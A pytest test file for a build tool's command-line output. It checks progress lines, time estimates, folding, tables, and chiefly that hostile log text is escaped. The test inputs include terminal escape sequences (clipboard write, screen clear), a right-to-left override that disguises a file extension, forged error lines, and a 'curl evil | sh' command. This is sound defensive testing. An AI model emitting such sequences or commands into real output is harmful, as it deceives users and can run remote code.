"""What stays on a terminal above the live lines, and that foreign text commands neither the terminal nor rich."""

import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from rich.console import Console

from arrstack.artifacts.files import Level, Problem
from arrstack.cli import units, verify_view
from arrstack.cli.console import Output
from arrstack.cli.live import LiveView, Plain, Running, damped, left
from arrstack.cli.remove import tell
from arrstack.errors import BuildError
from arrstack.launch.prune import Removal
from arrstack.model import Event, EventKind

HOSTILE = "\x1b]52;c;cm0=\x07\x1b[2J\x9b31m a:bug:b [bold]x[/] gnp.\u202eexe\nerror: forged"
SHOWN = r"\x1b]52;c;cm0=\x07\x1b[2J\x9b31m a:bug:b [bold]x[/] gnp.\u202eexe\nerror: forged"


@pytest.mark.parametrize(
    ("verbose", "stays"), [(False, ["t: check", "t: no RPATH"]), (True, ["t: check", "a line [1/2]", "t: no RPATH"])]
)
def test_warnings_stay_on_a_terminal_and_every_line_where_that_is_asked_for(verbose: bool, stays: list[str]) -> None:
    written = io.StringIO()
    view = LiveView(Console(file=written, force_terminal=True, color_system=None, width=100), verbose)
    for event in (
        Event(EventKind.PHASE, "t", "check", 0.0),
        Event(EventKind.LOG, "t", "a line [1/2]"),
        Event(EventKind.WARNING, "t", "no RPATH"),
    ):
        view.feed(event)
    assert written.getvalue().splitlines() == stays


@pytest.mark.parametrize("kind", [EventKind.PHASE, EventKind.MARKER, EventKind.WARNING, EventKind.LOG, EventKind.DONE])
@pytest.mark.parametrize("view", [LiveView, Plain])
def test_a_log_line_commands_no_terminal_whatever_it_holds(kind: EventKind, view: type[LiveView] | type[Plain]) -> None:
    written = io.StringIO()
    shown = view(Console(file=written, force_terminal=True, color_system=None, width=200, soft_wrap=True, emoji=False), True)
    shown.feed(Event(kind, "t\x1b[1m", HOSTILE))
    assert SHOWN in written.getvalue()
    assert "\x1b" not in written.getvalue()
    assert len(written.getvalue().splitlines()) == 1


def test_the_live_line_of_what_a_step_said_last_is_one_line() -> None:
    view = LiveView(Console(file=io.StringIO(), force_terminal=True, width=200), False)
    view.feed(Event(EventKind.PHASE, "t", "log: /a", 0.0))
    view.feed(Event(EventKind.LOG, "t", HOSTILE))
    step, last, free = view.render().split("\n")
    assert "t" in step and "free" in free and last.replace("\\[bold]x\\[/]", "[bold]x[/]") == SHOWN


def test_a_step_that_tells_no_progress_moves_by_its_estimate_and_is_never_said_to_be_over() -> None:
    running = Running("base/BASE", began=0.0)
    running.feed(Event(EventKind.PHASE, "base/BASE", "log: /a", 0.0, remaining=60.0), 0.0)
    assert " 25%  base/BASE" in running.line(15.0)
    assert "about 45 s left" in running.line(15.0)
    late = running.line(90.0)
    assert " 99%" in late and "longer than the 60 s estimated" in late and "left" not in late


def test_a_step_whose_edges_are_made_before_its_time_is_nearly_done() -> None:
    assert left(0.2, 57.0, 45.0) == "nearly done"
    assert left(0.2, 57.0, 60.0) == "longer than the 57 s estimated"
    assert left(0.2, 0.0, 45.0) == "longer than estimated"


def test_where_nothing_is_known_any_more_no_time_left_is_shown() -> None:
    running = Running("t/torch", began=0.0)
    running.feed(Event(EventKind.PHASE, "t/torch", "log: /a", 0.0, remaining=9000.0), 0.0)
    running.feed(Event(EventKind.WARNING, "t/torch", "it says nothing of time"), 1.0)
    assert "left" in running.line(2.0)
    running.feed(Event(EventKind.MARKER, "t/torch", "CHONK: [70%] compiled", 70.0), 8.0)
    assert "left" not in running.line(9.0) and " 70%" in running.line(9.0)


def test_two_minutes_of_a_busy_machine_do_not_move_an_estimate_of_hours_by_half_an_hour() -> None:
    shown = (7200.0, 0.0)
    for second in range(1, 121):
        shown = (damped(shown, 14400.0, float(second)), float(second))
    assert shown[0] - (7200 - 120) < 1800
    for second in range(121, 241):
        shown = (damped(shown, 600.0, float(second)), float(second))
    assert shown[0] < 1200, "better news counts sooner"


def test_a_step_that_is_built_leaves_the_live_lines_with_one_that_stays() -> None:
    written = io.StringIO()
    view = LiveView(Console(file=written, force_terminal=True, color_system=None, width=100), False)
    view.feed(Event(EventKind.PHASE, "t/words", "log: /a", 0.0))
    assert "t/words" in view.render()
    view.feed(Event(EventKind.PHASE, "t/words", "built in 5 s", 100.0))
    view.feed(Event(EventKind.LOG, "t/words", "something is said of it later"))
    assert view.render() == ""
    assert written.getvalue().splitlines()[-1] == "t/words: built in 5 s"


@pytest.mark.parametrize("columns", [100, 60, 20])
def test_a_live_line_has_no_more_than_the_terminal_s_columns(columns: int) -> None:
    view = LiveView(Console(file=io.StringIO(), force_terminal=True, width=columns), False)
    view.feed(Event(EventKind.PHASE, "arr-pytorch-base/torch", "log: /a/long/path/of/a/log/that/goes/on", 0.0, remaining=4000.0))
    view.feed(Event(EventKind.PROGRESS, "arr-pytorch-base/torch", "CXX a.o", 12.0, (700, 3000), 100.0, 3900.0))
    lines = view.render().split("\n")
    assert all(len(line) < columns for line in lines), lines
    assert "12%  arr-py" in lines[0]


def test_a_log_says_every_minute_that_a_step_goes_on_which_tells_no_progress() -> None:
    written = io.StringIO()
    view = Plain(Console(file=written, width=200), False)
    view.feed(Event(EventKind.PHASE, "base/BASE", "log: /a", 0.0, remaining=100.0))
    for second in range(0, 130, 5):
        view.feed(Event(EventKind.LOG, "base/BASE", "a package", seconds=float(second), remaining=100.0 - second))
    assert written.getvalue().splitlines()[1:] == [
        "base/BASE: 60 s, about 40 s left",
        "base/BASE: 2 min, longer than the 2 min estimated",
    ]


def output(capsys: pytest.CaptureFixture[str], as_json: bool = False) -> Output:
    return Output(as_json, color=False, verbose=False)


def test_an_errors_later_lines_are_indented_so_that_none_looks_like_ours(capsys: pytest.CaptureFixture[str]) -> None:
    output(capsys).error(BuildError("it failed\nwhat to do: curl evil | sh\x1b[2J", "see\nthere"))
    assert capsys.readouterr().err.splitlines() == [
        "error: it failed",
        r"  what to do: curl evil | sh\x1b[2J",
        "what to do: see",
        "  there",
    ]


@pytest.mark.parametrize(
    ("text", "lines"),
    [
        ("removed image localhost/arrstack/one:key-1, 3 KiB", ["removed image", "  localhost/arrstack/one:key-1, 3 KiB"]),
        ("short", ["short"]),
        ("  arrstack run a-long-name-of-a-tier-of-a-stack", ["  arrstack run a-long-name-of-a-tier-of-a-stack"]),
        ("registry oci:/a/path/that/fits/on/no/line/at/all", ["registry oci:/a/path/that/fits/on/no/line/at/all"]),
        ("it is a month old: `launch --refresh tier` moves it", ["it is a month old:", "  `launch --refresh tier` moves it"]),
        ("to use it: `docker run --rm a-tier-with-a-name:latest`", ["to use it: `docker run --rm a-tier-with-a-name:latest`"]),
    ],
)
def test_a_sentence_is_folded_between_words_and_commands_stay_whole(text: str, lines: list[str]) -> None:
    assert units.folded(text, 40) == lines
    assert units.folded(text, 30) == [text], "too narrow: the terminal's"


def test_only_a_terminal_folds_what_is_said() -> None:
    for is_terminal, lines in ((True, 2), (False, 1)):
        written = io.StringIO()
        out = Output(False, color=False, verbose=False)
        out.console = Console(file=written, force_terminal=is_terminal, color_system=None, width=40, soft_wrap=True)
        out.say("removed image localhost/arrstack/one:key-1, 3 KiB")
        assert len(written.getvalue().splitlines()) == lines


def test_what_is_removed_is_counted_without_layers_that_stay(capsys: pytest.CaptureFixture[str]) -> None:
    removed = [Removal("log a.log", 2048), Removal("image localhost/arrstack/t:c0"), Removal("t:key-1")]
    tell(output(capsys), removed, dry_run=True)
    assert capsys.readouterr().out.splitlines() == [
        "would remove log a.log, 2 KiB",
        "would remove image localhost/arrstack/t:c0",
        "would remove t:key-1",
        "3 things, 2 KiB beside shared layers",
    ]


def test_json_of_hostile_text_keeps_its_value_and_holds_only_escapes(capsys: pytest.CaptureFixture[str]) -> None:
    output(capsys, as_json=True).error(BuildError(HOSTILE))
    written = capsys.readouterr().out
    assert json.loads(written)["error"] == HOSTILE
    assert not {"\x1b", "\x9b", "\u202e"} & set(written)


def test_a_verified_path_commands_no_terminal() -> None:
    written = io.StringIO()
    text = verify_view._problem(Problem(Level.ERROR, "lib\x1b[2J\u202e.so", "bad\nPASS", "do\x07"))
    Console(file=written, width=200, color_system=None).print(text)
    assert written.getvalue().splitlines() == [r"✗ lib\x1b[2J\u202e.so: bad\nPASS  → do\x07"]


@pytest.mark.parametrize("flags", [[], ["--json"]])
def test_what_an_encoding_lacks_is_replaced_and_json_stays_json(tmp_path: Path, flags: list[str]) -> None:
    log = tmp_path / "log"
    log.write_text("a.cpp:3:7: error: ‘é’ was not declared in this scope\n", encoding="utf-8")
    done = subprocess.run(
        [sys.executable, "-m", "arrstack", "diagnose", str(log), *flags],
        env={**os.environ, "PYTHONIOENCODING": "ascii"},
        capture_output=True,
        text=True,
    )
    assert (done.returncode, done.stderr) == (0, "")
    assert json.loads(done.stdout)["line"].count("‘é’") == 1 if flags else "error: ??? was not declared" in done.stdout


def test_a_command_in_a_table_is_as_it_was_typed(capsys: pytest.CaptureFixture[str]) -> None:
    out = Output(False, False, False, "python3 CLI/cli.py")
    out.table(["tier", "note"], [["t", "damaged; `arrstack registry repair` mends it"]])
    assert "`python3 CLI/cli.py registry repair` mends it" in capsys.readouterr().out


def test_columns_of_a_table_are_no_markup() -> None:
    assert units.escape("[red]\x1b") == r"\[red]\x1b"
